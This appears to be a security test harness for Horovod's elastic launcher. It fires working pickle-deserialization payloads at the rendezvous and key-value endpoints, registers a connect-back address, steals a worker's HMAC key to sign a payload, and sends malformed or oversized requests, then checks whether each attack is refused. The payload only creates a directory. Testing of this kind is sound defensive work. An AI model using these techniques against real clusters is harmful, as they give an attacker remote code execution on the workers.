"""Attack the servers of the installed Horovod's launcher on 127.0.0.1, and use them as its workers do.

    rendezvous.py MODULE...

The arguments are modules of the artifact to import first, as a job does. Each request
has a process and a time limit of its own, and is reported. An attack is "refused"
where the server said no and nothing happened, "fired" where it had an effect; an
honest request is "served". "broken" is a request that could not be made, or an
honest one that failed.
"""
import base64
import hmac
import http.client
import json
import os
import pickle
import select
import signal
import socket
import socketserver
import struct
import subprocess
import sys
import tempfile
import threading
import time
import types

import cloudpickle

from horovod.runner.elastic.discovery import FixedHosts
from horovod.runner.elastic.driver import ElasticDriver
from horovod.runner.elastic.rendezvous import create_rendezvous_handler
from horovod.runner.elastic.worker import HostUpdateResult, WorkerNotificationManager
from horovod.runner.gloo_run import create_run_env_vars
from horovod.runner.http.http_client import put_data_into_kvstore, read_data_from_kvstore
from horovod.runner.http.http_server import KVStoreServer, RendezvousServer
from horovod.runner.util.network import get_local_intfs

HERE = "127.0.0.1"
LIMIT = 60  # seconds for a request with all that belongs to it
ROWS = {}


def hostile(row):
    ROWS[row.__name__.replace("_", "-")] = ("hostile", row)


def honest(row):
    ROWS[row.__name__.replace("_", "-")] = ("honest", row)


class MakesDirectory:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def payload():
    """A pickle that leaves the directory "marker" where it is opened; that it can is tried first."""
    pickle.loads(pickle.dumps(MakesDirectory("tried")))
    if not os.path.isdir("tried"):
        raise RuntimeError("the payload does nothing")
    return pickle.dumps(MakesDirectory(os.path.abspath("marker")))


def ran(seconds=0.0):
    """Whether the payload was opened, now or in the next seconds."""
    end = time.monotonic() + seconds
    while not os.path.isdir("marker"):
        if time.monotonic() > end:
            return False
        time.sleep(0.05)
    return True


def ask(port, method, path, body=None, headers=None):
    """The status and the body of the answer; the status is 0 where the connection was dropped."""
    connection = http.client.HTTPConnection(HERE, port, timeout=15)
    connection.connect()
    try:
        connection.request(method, path, body, headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read()
    except (http.client.HTTPException, ConnectionError):
        return 0, b""
    finally:
        connection.close()


def refuses(status):
    return status >= 400


def elastic():
    """The driver of an elastic job and the port of its rendezvous."""
    rendezvous = RendezvousServer()
    driver = ElasticDriver(rendezvous, FixedHosts({"victim": 1}), 1, 1)
    return driver, rendezvous.start(create_rendezvous_handler(driver))


def interface():
    return sorted(get_local_intfs())[0]


def register(port):
    """What a worker does in its own process: the address and the key come from its environment."""
    manager = WorkerNotificationManager()
    manager.init(HERE, port, interface(), "victim", 0)
    return manager


def worker(args, port, **more):
    """Run a worker's process with the environment that the launcher gives to it."""
    env = create_run_env_vars(HERE, [interface()], port, elastic=True)
    env.update(HOROVOD_HOSTNAME="victim", HOROVOD_RANK=0, HOROVOD_SIZE=1, HOROVOD_LOCAL_RANK=0, HOROVOD_LOCAL_SIZE=1)
    return subprocess.Popen(
        [sys.executable, *args], env={**os.environ, **{k: str(v) for k, v in env.items()}},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **more)


def run_task(port):
    """The worker of horovod.run(func)."""
    task = worker(["-m", "horovod.runner.run_task", HERE, str(port)], port)
    _, errors = task.communicate(timeout=LIMIT / 2)
    return task.returncode, errors


def signed(key, body):
    return hmac.new(key, body, "sha256").digest() + struct.pack("i", len(body)) + body


@hostile
def pickled_registration():
    _, port = elastic()
    status, _ = ask(port, "PUT", "/worker_addresses/victim:0", base64.b64encode(payload()))
    return ran() or not refuses(status), f"a pickle for /worker_addresses: {status}; code ran: {ran()}"


@hostile
def connect_back():
    """A harmless registration whose address is the attacker's: the danger is the reply."""
    key, reply, came = b"k" * 32, payload(), []

    class Liar(socketserver.StreamRequestHandler):
        def handle(self):
            came.append(self.client_address)
            asked = self.rfile.read(36)
            self.rfile.read(struct.unpack("i", asked[32:])[0])
            self.wfile.write(signed(key, reply))

    liar = socketserver.ThreadingTCPServer((HERE, 0), Liar)
    threading.Thread(target=liar.serve_forever, daemon=True).start()
    addresses = {interface(): [(HERE, liar.server_address[1])]}
    _, port = elastic()
    statuses = []
    for body in (
        base64.b64encode(pickle.dumps((addresses, key))),
        json.dumps({"addresses": addresses}).encode(),
        json.dumps({"addresses": addresses, "secret_key": key.hex()}).encode(),
    ):
        statuses.append(ask(port, "PUT", "/worker_addresses/victim:0", body)[0])
    fired = ran() or bool(came) or not all(map(refuses, statuses))
    return fired, f"registrations of another's address: {statuses}, {len(came)} connections; code ran: {ran()}"


@hostile
def stolen_key():
    """What a worker registered is handed to whoever asks, with the key of its port."""
    _, port = elastic()
    register(port)
    status, value = ask(port, "GET", "/worker_addresses/victim:0")
    if refuses(status):
        return False, f"GET of a registration: {status}"
    addresses, key = cloudpickle.loads(base64.b64decode(value))
    with socket.create_connection(addresses[interface()][0], timeout=10) as notifications:
        notifications.sendall(signed(key, payload()))
        return True, f"GET of a registration: {status}; code ran in the worker: {ran(5)}"


@hostile
def file_of_the_launcher():
    with open("secret.txt", "w") as file:
        file.write("x" * 123)
    _, port = elastic()
    statuses = [ask(port, "HEAD", path)[0] for path in ("/secret.txt", "/missing.txt")]
    return not all(map(refuses, statuses)), f"HEAD of a file that exists and of one that does not: {statuses}"


@hostile
def replaced_function():
    server = KVStoreServer(0)
    port = server.start_server()
    put_data_into_kvstore(HERE, port, "runfunc", "func", lambda: 42)
    status, _ = ask(port, "PUT", "/runfunc/func", base64.b64encode(payload()))
    run_task(port)
    return ran() or not refuses(status), f"a pickle for /runfunc/func: {status}; code ran: {ran()}"


@hostile
def replaced_result():
    server = KVStoreServer(0)
    port = server.start_server()
    put_data_into_kvstore(HERE, port, "runfunc_result", "0", 42)
    status, _ = ask(port, "PUT", "/runfunc_result/0", base64.b64encode(payload()))
    read_data_from_kvstore(HERE, port, "runfunc_result", "0")
    return ran() or not refuses(status), f"a pickle for /runfunc_result/0: {status}; code ran: {ran()}"


@hostile
def replayed_value():
    server = KVStoreServer(0)
    port = server.start_server()
    put_data_into_kvstore(HERE, port, "runfunc_result", "0", 42)
    _, value = ask(port, "GET", "/runfunc_result/0")
    statuses = [ask(port, "PUT", path, value)[0] for path in ("/runfunc_result/1", "/runfunc/func")]
    return not all(map(refuses, statuses)), f"a value under other names: {statuses}"


@hostile
def malformed_key():
    _, port = elastic()
    keys = ("", "/victim", "/victim:x", "/a:b:0", "/victim:0/x")
    statuses = [ask(port, "PUT", "/worker_addresses" + key, b"x")[0] for key in keys]
    return not all(map(refuses, statuses)), f"PUT with keys of another form: {statuses}"


@hostile
def malformed_body():
    _, port = elastic()
    bodies = (b"", b"x", b"x" * 31, bytes(64), b'{"addresses": {}}')
    statuses = [ask(port, "PUT", "/worker_addresses/victim:0", body)[0] for body in bodies]
    for headers in ({"Content-Length": "x"}, {"Content-Length": "-1"}, {"Transfer-Encoding": "chunked"}):
        statuses.append(ask(port, "PUT", "/global/0", headers=headers)[0])
    return not all(map(refuses, statuses)), f"PUT of bodies of another form: {statuses}"


@hostile
def oversized_value():
    _, port = elastic()
    status, _ = ask(port, "PUT", "/global/0", headers={"Content-Length": str(1 << 40)})
    return status != 413, f"PUT of a value of 1 TiB: {status}"


@honest
def registration():
    driver, port = elastic()
    code = "import sys, rendezvous; rendezvous.listen(%d)" % port
    listener = worker(["-c", code], port, stdin=subprocess.PIPE, cwd=os.path.dirname(os.path.abspath(__file__)))
    if listener.stdout.readline() != "registered\n":
        raise RuntimeError("the worker did not register: " + listener.communicate(timeout=10)[1][-300:])
    slot = types.SimpleNamespace(hostname="victim", local_rank=0)
    driver.get_worker_client(slot).notify_hosts_updated(7, HostUpdateResult.added)
    heard = listener.stdout.readline()
    listener.kill()
    if heard != f"heard 7 {int(HostUpdateResult.added)}\n":
        raise RuntimeError(f"the worker heard {heard!r}")
    return "a worker registers, and hears of new hosts"


def listen(port):
    """The worker of registration()."""
    class Heard:
        def on_hosts_updated(self, timestamp, result):
            print("heard", timestamp, int(result), flush=True)

    register(port).register_listener(Heard())
    print("registered", flush=True)
    sys.stdin.read()


@honest
def native_scopes():
    _, port = elastic()
    for scope in ("global", "local_victim", "cross_0"):
        value = bytes(range(256))
        answers = [
            ask(port, "PUT", f"/{scope}/0", value)[0], ask(port, "GET", f"/{scope}/0"),
            ask(port, "DELETE", f"/{scope}/0")[0], ask(port, "GET", f"/{scope}/0")[0],
        ]
        if answers != [200, (200, value), 200, 404]:
            raise RuntimeError(f"PUT, GET, DELETE, GET of /{scope}/0: {answers}")
    return "raw values of global, local_ and cross_ are stored, read and deleted"


@honest
def function_and_result():
    server = KVStoreServer(0)
    port = server.start_server()
    put_data_into_kvstore(HERE, port, "runfunc", "func", lambda: {"answer": 42})
    status, errors = run_task(port)
    if status != 0:
        raise RuntimeError(f"the worker ended with {status}: {errors[-300:]}")
    result = read_data_from_kvstore(HERE, port, "runfunc_result", "0")
    if result != {"answer": 42}:
        raise RuntimeError(f"the result is {result!r}")
    return "a function reaches the worker, its result the launcher"


def attempt(name):
    """Make one request in this process."""
    kind, row = ROWS[name]
    try:
        if kind == "honest":
            return "served", row()
        fired, detail = row()
        return "fired" if fired else "refused", detail
    except Exception as e:
        return "broken", f"{type(e).__name__}: {e}"


def tried(name, directory):
    """Make one request in a fork of this process, which has loaded the extension as a job does."""
    os.mkdir(directory)
    answer, said = os.pipe()
    with open(directory + ".log", "w+b") as log:
        sys.stdout.flush()
        child = os.fork()
        if child == 0:
            os.chdir(directory)
            os.dup2(log.fileno(), 1)
            os.dup2(log.fileno(), 2)
            os.write(said, json.dumps(attempt(name)).encode())
            os._exit(0)  # whatever threads the servers have
        os.close(said)
        ended = select.select([answer], [], [], LIMIT)[0]
        text = os.read(answer, 1 << 16) if ended else b""
        os.close(answer)
        os.kill(child, signal.SIGKILL)
        status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
        log.seek(0)
        printed = log.read().decode(errors="replace")[-300:]
    if text:
        outcome, detail = json.loads(text)
    else:
        outcome, detail = "broken", f"exit {status}: {printed}" if ended else f"no end after {LIMIT} seconds"
    return {"name": name, "kind": ROWS[name][0], "outcome": outcome, "detail": detail}


if __name__ == "__main__":
    import asked

    for module in sys.argv[1:]:
        try:
            __import__(module)
        except BaseException:  # the gate import reports it
            pass
    with tempfile.TemporaryDirectory() as top:
        for name in ROWS:
            asked.report(**tried(name, os.path.join(top, name)))
    asked.end()
